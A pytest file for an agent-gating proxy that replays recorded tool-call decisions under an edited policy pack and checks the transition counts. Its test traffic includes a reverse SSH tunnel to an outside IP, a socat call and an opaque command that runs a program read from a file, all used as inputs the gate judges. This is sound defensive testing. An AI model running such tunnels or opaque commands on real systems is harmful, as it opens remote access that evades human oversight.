"""``replay``: recorded decisions from the real gate, re-decided under an edited candidate pack."""

from __future__ import annotations

import json
from collections import Counter
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

from gatekeeper.audit.record import AuditRecord
from gatekeeper.gate import Gate, PolicySet, load_policy_set
from gatekeeper.models import Principal
from gatekeeper.policy.lint import policy_files_in
from gatekeeper.policy.replay import read_jsonl, replay, replay_async

from . import PACK, copy_pack, edit_policy, line_of

OPAQUE_ESCALATE = (
    "p, agent, shell.opaque, escalate, True, the program to run cannot be known without running it"
)
LIVE = load_policy_set(policy_files_in(PACK))
_WORD = {"allow": "allowed", "deny": "denied", "escalate": "pending"}

# (roles, tool, arguments, how many times it was called)
TRAFFIC: list[tuple[tuple[str, ...], str, dict[str, Any], int]] = [
    (("agent",), "shell.exec", {"cmd": "git status"}, 7),  # allowed -> denied (git rule deleted)
    (("agent",), "shell.exec", {"cmd": "ls -la"}, 5),  # unchanged
    (("agent",), "shell.exec", {"cmd": "socat -h"}, 3),  # denied -> allowed (socat granted)
    (("agent",), "shell.exec", {"cmd": "P=$(cat prog.txt); $P -R 1:a:2 h"}, 2),  # pending -> denied
    (("agent",), "shell.exec", {"cmd": "ssh -N -R 2222:localhost:22 u@203.0.113.7"}, 4),  # unchanged deny
    (("researcher",), "file.read", {"path": "README.md"}, 6),  # unchanged
    (("agent",), "compute.provision", {"gpu_type": "H100", "count": 8, "hours": 72}, 1),  # unchanged
    (("agent",), "file.write", {"path": "notes.txt", "content": "[redacted]"}, 2),  # unchanged, redacted
    (("agent",), "file.read", {"path": "x", "bogus": 1}, 1),  # error, unchanged
]


def _record(
    seq: int, gate: Gate, roles: tuple[str, ...], tool: str, arguments: dict[str, Any]
) -> AuditRecord:
    principal = Principal("agent-7", roles, "gatekeeper-dev", 0.0)
    try:
        verdict = gate.evaluate(principal, tool, arguments)
    except Exception as exc:  # refused before policy, as the proxy records it
        code = getattr(exc, "code", "error")
        return AuditRecord(
            seq,
            1000.0 + seq,
            f"d{seq}",
            "invoke",
            "error",
            code,
            "agent-7",
            "gatekeeper-dev",
            roles,
            tool,
            arguments,
        )
    decision = verdict.decision
    return AuditRecord(
        seq=seq,
        time=1000.0 + seq,
        decision_id=f"d{seq}",
        entry="invoke" if seq % 2 else "mcp",
        outcome=_WORD[str(decision.outcome)],
        code=decision.code,
        principal="agent-7",
        issuer="gatekeeper-dev",
        roles=roles,
        tool=tool,
        arguments=verdict.call.arguments if verdict.call else arguments,
        capabilities=tuple(c.name for c in verdict.call.capabilities) if verdict.call else (),
        rule=decision.rule,
        reason=decision.reason,
        policy_version=decision.policy_version,
        extra={"capability": decision.capability} if decision.capability else {},
    )


def _recorded(path: Path) -> Path:
    gate = Gate(LIVE)
    seq = 0
    records: list[AuditRecord] = []
    for roles, tool, arguments, times in TRAFFIC:
        for _ in range(times):
            seq += 1
            records.append(_record(seq, gate, roles, tool, arguments))
    seq += 1
    records.append(AuditRecord(seq, 1000.0 + seq, "vote", "approval", "approved", "approved", operator="op"))
    path.write_text("".join(json.dumps(r.to_json()) + "\n" for r in records))
    return path


def _candidate(tmp_path: Path) -> PolicySet:
    pack = copy_pack(tmp_path / "candidate")
    edit_policy(
        pack,
        drop=("p, agent, proc.exec:git,",),
        replace={
            OPAQUE_ESCALATE: "p, agent, shell.opaque, deny, True, opaque programs are refused now",
        },
        append=("p, agent, proc.exec:socat, allow, True, socat is fine now",),
    )
    return load_policy_set(policy_files_in(pack))


def test_transitions_are_counted(tmp_path: Path) -> None:
    source = _recorded(tmp_path / "audit.jsonl")
    report = replay(read_jsonl(source), _candidate(tmp_path), examples=2)
    assert report.total == 32
    assert report.replayed == 31
    assert report.skipped == {"entry approval": 1}
    assert report.transitions == {"allowed→denied": 7, "denied→allowed": 3, "pending→denied": 2}
    assert report.unchanged == 5 + 4 + 6 + 1 + 2 + 1
    assert report.changed == 12
    assert report.cache_hits == 31 - len(TRAFFIC)
    examples = report.examples["allowed→denied"]
    assert len(examples) == 2
    ex = examples[0]
    assert ex.tool == "shell.exec" and ex.new_capability == "proc.exec:git"
    assert ex.old_rule == line_of("tool:shell.exec, allow") and ex.new_rule is None
    assert "not allowed" in ex.new_reason
    opaque = report.examples["pending→denied"][0]
    assert opaque.old_capability == "shell.opaque" and opaque.new_rule is not None
    assert report.redacted == 2 and report.redacted_changed == 0
    text = report.render()
    assert "allowed→denied: 7" in text and "redacted" in text
    json.dumps(report.to_json())


def test_same_policy_changes_nothing(tmp_path: Path) -> None:
    source = _recorded(tmp_path / "audit.jsonl")
    report = replay(read_jsonl(source), LIVE)
    assert report.changed == 0 and report.unchanged == 31 and report.rule_changed == 0


def test_time_window(tmp_path: Path) -> None:
    source = _recorded(tmp_path / "audit.jsonl")
    report = replay(read_jsonl(source), _candidate(tmp_path), since=1001.0, until=1004.0)
    assert report.total == 3 and report.transitions == {"allowed→denied": 3}


async def test_async_source(tmp_path: Path) -> None:
    records = list(read_jsonl(_recorded(tmp_path / "audit.jsonl")))

    async def stream() -> AsyncIterator[AuditRecord]:
        for record in records:
            yield record

    report = await replay_async(stream(), _candidate(tmp_path))
    assert Counter(report.transitions) == Counter(
        {"allowed→denied": 7, "denied→allowed": 3, "pending→denied": 2}
    )


def test_a_day_of_traffic_is_fast(tmp_path: Path) -> None:
    """50k records of repetitive traffic replay in well under the time a person waits."""
    gate = Gate(LIVE)
    base = [_record(i + 1, gate, roles, tool, args) for i, (roles, tool, args, _) in enumerate(TRAFFIC)]
    records = [base[i % len(base)] for i in range(50_000)]
    report = replay(records, _candidate(tmp_path))
    assert report.replayed == 50_000
    assert report.seconds < 10


async def test_calls_operators_settled_are_not_policy_changes(tmp_path: Path) -> None:
    """A real gate holds two GPU calls; an operator approves one and denies the other, a third
    expires unanswered. Replayed under the very same policy, nothing changed: the policy said
    "pending" each time, whatever the operators then did."""
    import asyncio

    import aiohttp

    from gatekeeper.audit.log import make_sink

    from ..helpers import H100, invoke, make_config, mint, running, vote, wait_for_pending

    config = make_config(tmp_path)
    async with running(config) as gk, aiohttp.ClientSession() as http:
        token = mint(gk)
        outcomes = []
        for verdict in ("approve", "deny"):  # the agent waits while the operator decides
            held = asyncio.create_task(
                invoke(http, gk, "compute.provision", H100, token, headers={"Prefer": "wait=20"})
            )
            approval = await wait_for_pending(http, gk)
            assert (await vote(http, gk, approval, verdict))[0] == 200
            status, body, _ = await held
            outcomes.append((status, body.get("code")))
        # Left to expire. Another request: the denied one, sent again, is refused with the
        # operator's word while the denial stands (approvals.denial_stands_seconds).
        status, body, _ = await invoke(http, gk, "compute.provision", {**H100, "hours": 3}, token)
        assert status == 202, body
        assert outcomes == [(200, None), (403, "approval_denied")]
        assert (await invoke(http, gk, "shell.exec", {"cmd": "git status"}, token))[0] == 200
    sink = make_sink(config.approvals.store, config.data_dir, schema=config.approvals.postgres_schema)
    await sink.open()
    try:
        records = [r async for r in sink.records()]
        report = await replay_async(records, LIVE)
    finally:
        await sink.close()
    assert {r.code for r in records} >= {"approved", "approval_denied", "approval_required"}, records
    assert report.changed == 0, report.render()
    assert report.settled_by_people == 2
    assert "approved, denied or expired by operators" in report.render()


def test_calls_a_budget_decided_are_skipped_not_counted_as_changes() -> None:
    """Spend at the moment of the call is not replayed: a budget's verdict is no policy change."""
    gpu = {"gpu_type": "T4", "count": 1, "hours": 8}  # allowed by the rules
    common: dict[str, Any] = {
        "principal": "agent-7",
        "issuer": "gatekeeper-dev",
        "roles": ("agent",),
        "tool": "compute.provision",
        "arguments": gpu,
    }
    held = AuditRecord(
        1, 1.0, "d1", "invoke", "pending", "budget_exceeded", rule="budgets.yaml:agent-gpu", **common
    )
    approved = AuditRecord(
        2, 2.0, "d2", "invoke", "allowed", "approved", rule="budgets.yaml:agent-gpu", **common
    )
    plain = AuditRecord(
        3, 3.0, "d3", "invoke", "allowed", "allowed", rule=line_of("compute.gpu:*, allow"), **common
    )
    report = replay([held, approved, plain], LIVE)
    assert report.changed == 0 and report.unchanged == 1
    assert report.skipped == {"decided by a budget": 2}
